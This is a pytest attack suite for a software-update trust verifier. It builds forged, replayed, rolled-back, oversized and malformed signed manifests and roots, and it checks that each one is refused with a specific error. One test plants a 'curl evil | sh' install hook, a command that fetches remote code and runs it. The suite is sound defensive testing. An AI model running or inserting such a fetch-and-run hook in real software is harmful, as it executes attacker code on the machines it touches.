"""The attack suite: one row per attack, hostile data built by re-signing.

Every row builds real signed data with the repository simulator (as an
attacker, a lying mirror or a compromised hub would), runs the verifier the
way a node does and expects one specific error type. `docs/threat-model.md`
names these rows. The legitimate path is checked alongside.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import cbor2
import pytest

from tests.trust.repo_sim import BUILD_TIME, DAY, NOW, RepoSim, flist_bytes, key, sign
from zosnode import canonical
from zosnode.trust import download
from zosnode.trust.download import HashMismatchError
from zosnode.trust.envelope import Envelope
from zosnode.trust.envelope import decode as decode_envelope
from zosnode.trust.errors import (
    AgentTooOldError,
    BadSignatureError,
    EquivocationError,
    ExpiredError,
    MalformedError,
    OversizeError,
    Refused,
    RollbackError,
    RotationError,
    ThresholdError,
    UnknownKeyError,
    WrongChannelError,
)
from zosnode.trust.manifest import MAX_MANIFEST_BYTES, FlistPin, Manifest
from zosnode.trust.root import MAX_ROOT_BYTES
from zosnode.trust.signing import (
    encode_envelope,
    encode_manifest,
    encode_root,
    make_anchor,
    with_signature,
)
from zosnode.trust.verifier import Verifier, effective_now


def verify(v: Verifier, data: bytes, now: int = NOW, channel: str = "stable") -> Any:
    return v.verify_manifest(data, channel=channel, now=now, agent_version="0.1.0")


def pin(m: Manifest, name: str) -> FlistPin:
    return next(p for p in m.flists if p.name == name)


def raw_body(sim: RepoSim, **changes: Any) -> dict[str, Any]:
    """The manifest body as a plain map, to build what the dataclass refuses."""
    body: dict[str, Any] = canonical.loads(encode_manifest(sim.manifest()), max_size=1 << 20)
    body.update(changes)
    return body


# -- one function per attack; each must raise --------------------------------


def unsigned(sim: RepoSim) -> None:
    verify(sim.verifier(), sign("manifest", encode_manifest(sim.manifest()), []))


def signed_by_attacker_keys(sim: RepoSim) -> None:
    evil = [key("evil-1"), key("evil-2")]
    verify(sim.verifier(), sim.signed_manifest(signers=evil))


def signatures_over_other_bytes(sim: RepoSim) -> None:
    good = decode_envelope(sim.signed_manifest(), max_size=1 << 20, kind="manifest")
    evil = encode_manifest(sim.manifest(services=(), metadata={"owned": True}))
    verify(sim.verifier(), encode_envelope(Envelope("manifest", evil, good.signatures)))


def one_key_compromised_below_threshold(sim: RepoSim) -> None:
    evil = sim.manifest(metadata={"owned": True})
    verify(sim.verifier(), sim.signed_manifest(evil, signers=[sim.keys[0]]))


def one_key_compromised_plus_attacker_key(sim: RepoSim) -> None:
    evil = sim.manifest(metadata={"owned": True})
    verify(sim.verifier(), sim.signed_manifest(evil, signers=[sim.keys[0], key("evil")]))


def root_signature_replayed_as_manifest(sim: RepoSim) -> None:
    env = decode_envelope(sim.root_bytes, max_size=1 << 20, kind="root")
    verify(sim.verifier(), encode_envelope(Envelope("manifest", env.body, env.signatures)))


def rollback_below_seen(sim: RepoSim) -> None:
    v = sim.verifier()
    verify(v, sim.signed_manifest(sim.manifest(version=5)))
    verify(v, sim.signed_manifest(sim.manifest(version=4)))


def rollback_below_floor(sim: RepoSim) -> None:
    verify(sim.verifier(floor=10), sim.signed_manifest(sim.manifest(version=9)))


def same_version_other_bytes(sim: RepoSim) -> None:
    v = sim.verifier()
    verify(v, sim.signed_manifest(sim.manifest(version=5)))
    verify(v, sim.signed_manifest(sim.manifest(version=5, rollout_ppm=1)))


def expired_manifest(sim: RepoSim) -> None:
    m = sim.manifest(issued_at=NOW - 10 * DAY, expires_at=NOW - DAY)
    verify(sim.verifier(), sim.signed_manifest(m))


def expired_manifest_unset_clock(sim: RepoSim) -> None:
    # The node's clock reads 1970; the manifest expired before the build.
    m = sim.manifest(issued_at=BUILD_TIME - 10 * DAY, expires_at=BUILD_TIME - DAY)
    anchor = sim.anchor()
    verify(Verifier(anchor), sim.signed_manifest(m), now=effective_now(0, anchor))


def expired_root_no_newer(sim: RepoSim) -> None:
    sim.rotate(sim.keys, 2, expires_at=NOW - 1)
    v = sim.verifier()
    refresh = v.refresh()
    refresh.received(sim.roots[2])
    refresh.finish(NOW)


def expired_root_then_manifest(sim: RepoSim) -> None:
    sim.rotate(sim.keys, 2, expires_at=NOW - 1)
    v = sim.verifier()
    v.accept_root(sim.roots[2])
    verify(v, sim.signed_manifest(sim.manifest(version=2)))


def other_channel(sim: RepoSim) -> None:
    verify(sim.verifier(), sim.signed_manifest(sim.manifest(channel="beta")))


def flist_mix_and_match(sim: RepoSim) -> None:
    m = verify(sim.verifier(), sim.signed_manifest(sim.manifest(version=2))).manifest
    old = flist_bytes("base", 1)  # same size, an older release's flist
    download.verify_pinned(pin(m, "base"), old)


def flist_wrong_software(sim: RepoSim) -> None:
    m = verify(sim.verifier(), sim.signed_manifest()).manifest
    data = bytearray(flist_bytes("app"))
    data[3] ^= 1
    download.verify_pinned(pin(m, "app"), bytes(data))


def flist_endless_data(sim: RepoSim) -> None:
    m = verify(sim.verifier(), sim.signed_manifest()).manifest
    dl = download.for_pin(pin(m, "base"))
    for _ in range(1000):  # a mirror that never stops sending
        dl.feed(b"\x00" * 4096)


def manifest_endless_data(sim: RepoSim) -> None:
    verify(sim.verifier(), sim.signed_manifest() + b"\x00" * MAX_MANIFEST_BYTES)


def root_endless_data(sim: RepoSim) -> None:
    sim.verifier().accept_root(b"\xa0" * (MAX_ROOT_BYTES + 1))


def metadata_over_cap(sim: RepoSim) -> None:
    body = raw_body(sim, metadata={"blob": "x" * 20_000})
    verify(sim.verifier(), sign("manifest", canonical.dumps(body), sim.signers))


def non_canonical_envelope(sim: RepoSim) -> None:
    env = decode_envelope(sim.signed_manifest(), max_size=1 << 20, kind="manifest")
    loose = {  # same content, keys in non-canonical order
        "signatures": [{"sig": s.sig, "keyid": s.keyid} for s in env.signatures],
        "signed": env.body, "kind": "manifest",
    }
    verify(sim.verifier(), cbor2.dumps(loose))


def duplicate_map_keys(sim: RepoSim) -> None:
    data = sim.signed_manifest()
    # Map of 3 pairs -> 4 pairs whose first key repeats: "kind": "manifest" twice.
    assert data[0] == 0xA3
    dup = b"\xa4" + cbor2.dumps("kind") + cbor2.dumps("manifest") + data[1:]
    verify(sim.verifier(), dup)


def unknown_critical_field(sim: RepoSim) -> None:
    body = raw_body(sim, install_hook=["/bin/sh", "-c", "curl evil | sh"])
    verify(sim.verifier(), sign("manifest", canonical.dumps(body), sim.signers))


def extraneous_dependency(sim: RepoSim) -> None:
    # Signed, but a service runs from an flist the manifest does not pin.
    body = raw_body(sim)
    body["services"][0]["flist"] = "unpinned"
    verify(sim.verifier(), sign("manifest", canonical.dumps(body), sim.signers))


def floats_in_manifest(sim: RepoSim) -> None:
    body = raw_body(sim)
    data = cbor2.dumps({**body, "rollout_ppm": 0.5}, canonical=True)
    verify(sim.verifier(), sign("manifest", data, sim.signers))


def agent_too_old(sim: RepoSim) -> None:
    verify(sim.verifier(), sim.signed_manifest(sim.manifest(min_agent_version="9.0")))


def rotation_signed_only_by_new_keys(sim: RepoSim) -> None:
    new = [key(f"gen2-{i}") for i in range(3)]
    data = sim.rotate(new, 2, old_signers=[])
    sim.verifier().refresh().received(data)


def rotation_below_old_threshold(sim: RepoSim) -> None:
    new = [key(f"gen2-{i}") for i in range(3)]
    data = sim.rotate(new, 2, old_signers=[sim.keys[0]])
    sim.verifier().refresh().received(data)


def rotation_not_signed_by_new_threshold(sim: RepoSim) -> None:
    new = [key(f"gen2-{i}") for i in range(3)]
    data = sim.rotate(new, 2, new_signers=[new[0]])
    sim.verifier().refresh().received(data)


def root_fast_forward(sim: RepoSim) -> None:
    data = sim.rotate(sim.keys, 2, version=7)
    sim.verifier().refresh().received(data)


def root_rollback(sim: RepoSim) -> None:
    v = sim.verifier()
    v.refresh().received(sim.rotate(sim.keys, 2))
    v.refresh().received(sim.roots[1])


def malicious_mirror_alters_manifest(sim: RepoSim) -> None:
    data = bytearray(sim.signed_manifest())
    at = bytes(data).index(b"/usr/bin/web")
    data[at + 9 : at + 12] = b"owo"  # /usr/bin/owo: same length, other bytes
    verify(sim.verifier(), bytes(data))


@dataclass(frozen=True)
class Attack:
    attack: str
    run: Callable[[RepoSim], None]
    refused_with: type[Refused]


ATTACKS = [
    Attack("arbitrary installation: no signatures", unsigned, ThresholdError),
    Attack("arbitrary installation: attacker's keys", signed_by_attacker_keys, UnknownKeyError),
    Attack("arbitrary installation: signatures over other bytes",
           signatures_over_other_bytes, BadSignatureError),
    Attack("arbitrary installation: root signature replayed as manifest",
           root_signature_replayed_as_manifest, BadSignatureError),
    Attack("key compromise below threshold: one key",
           one_key_compromised_below_threshold, ThresholdError),
    Attack("key compromise below threshold: one key plus attacker's",
           one_key_compromised_plus_attacker_key, UnknownKeyError),
    Attack("rollback: below the highest seen", rollback_below_seen, RollbackError),
    Attack("rollback: below the compiled-in floor", rollback_below_floor, RollbackError),
    Attack("rollback: same version, other bytes", same_version_other_bytes, EquivocationError),
    Attack("indefinite freeze: expired manifest", expired_manifest, ExpiredError),
    Attack("indefinite freeze: unset clock", expired_manifest_unset_clock, ExpiredError),
    Attack("indefinite freeze: expired root, none newer", expired_root_no_newer, ExpiredError),
    Attack("indefinite freeze: manifest under an expired root",
           expired_root_then_manifest, ExpiredError),
    Attack("wrong software: manifest for another channel", other_channel, WrongChannelError),
    Attack("mix-and-match: an older release's flist", flist_mix_and_match, HashMismatchError),
    Attack("wrong software: altered flist", flist_wrong_software, HashMismatchError),
    Attack("malicious mirror: altered manifest", malicious_mirror_alters_manifest,
           BadSignatureError),
    Attack("endless data: flist longer than pinned", flist_endless_data, OversizeError),
    Attack("endless data: manifest over its cap", manifest_endless_data, OversizeError),
    Attack("endless data: root over its cap", root_endless_data, OversizeError),
    Attack("endless data: metadata over its cap", metadata_over_cap, OversizeError),
    Attack("malformed: non-canonical CBOR", non_canonical_envelope, MalformedError),
    Attack("malformed: duplicate map keys", duplicate_map_keys, MalformedError),
    Attack("malformed: unknown critical field", unknown_critical_field, MalformedError),
    Attack("malformed: floats", floats_in_manifest, MalformedError),
    Attack("extraneous dependencies: service from an unpinned flist",
           extraneous_dependency, MalformedError),
    Attack("agent too old for the release", agent_too_old, AgentTooOldError),
    Attack("rotation signed only by the new keys", rotation_signed_only_by_new_keys,
           ThresholdError),
    Attack("rotation below the old threshold", rotation_below_old_threshold, ThresholdError),
    Attack("rotation without the new keys' threshold", rotation_not_signed_by_new_threshold,
           ThresholdError),
    Attack("fast-forward: root skips versions", root_fast_forward, RotationError),
    Attack("rollback: an older root served as the next", root_rollback, RollbackError),
]


@pytest.mark.parametrize("case", ATTACKS, ids=[a.attack for a in ATTACKS])
def test_attack_is_refused(case: Attack) -> None:
    with pytest.raises(case.refused_with) as info:
        case.run(RepoSim())
    assert str(info.value)  # every refusal says why


def test_every_attack_has_a_distinct_function() -> None:
    assert len({a.run for a in ATTACKS}) == len(ATTACKS)


# -- the legitimate path -----------------------------------------------------


def test_legitimate_release_is_accepted() -> None:
    sim = RepoSim()
    v = sim.verifier()
    got = verify(v, sim.signed_manifest())
    assert got.manifest == sim.manifest()
    for pin in got.manifest.flists:
        assert download.verify_pinned(pin, flist_bytes(pin.name)) == flist_bytes(pin.name)
    with pytest.raises(EquivocationError):  # version 1 is remembered
        verify(v, sim.signed_manifest(sim.manifest(rollout_ppm=7)))
    assert verify(v, sim.signed_manifest(sim.manifest(version=2))).manifest.version == 2


def test_repoll_of_the_same_manifest_is_accepted() -> None:
    sim = RepoSim()
    v = sim.verifier()
    verify(v, sim.signed_manifest())
    # Same body, one more signature: same release, not equivocation.
    verify(v, sim.signed_manifest(signers=sim.keys))


def test_garbage_signatures_do_not_block_a_met_threshold() -> None:
    sim = RepoSim()
    good = decode_envelope(sim.signed_manifest(), max_size=1 << 20, kind="manifest")
    junk = with_signature(Envelope("manifest", good.body), key("stranger")).signatures
    broken = dataclasses.replace(
        with_signature(Envelope("manifest", good.body), sim.keys[2]).signatures[0],
        sig=bytes(64),
    )
    sigs = tuple(sorted((*good.signatures, *junk, broken), key=lambda s: s.keyid))
    verify(sim.verifier(), encode_envelope(Envelope("manifest", good.body, sigs)))


def test_clock_rule_uses_build_time_only_when_clock_is_behind() -> None:
    anchor = RepoSim().anchor()
    assert effective_now(0, anchor) == BUILD_TIME
    assert effective_now(NOW, anchor) == NOW


def test_anchor_refuses_a_root_without_its_own_threshold() -> None:
    sim = RepoSim()
    with pytest.raises(ThresholdError):
        make_anchor(sign("root", encode_root(sim.root), sim.keys[:1]), 0, BUILD_TIME)
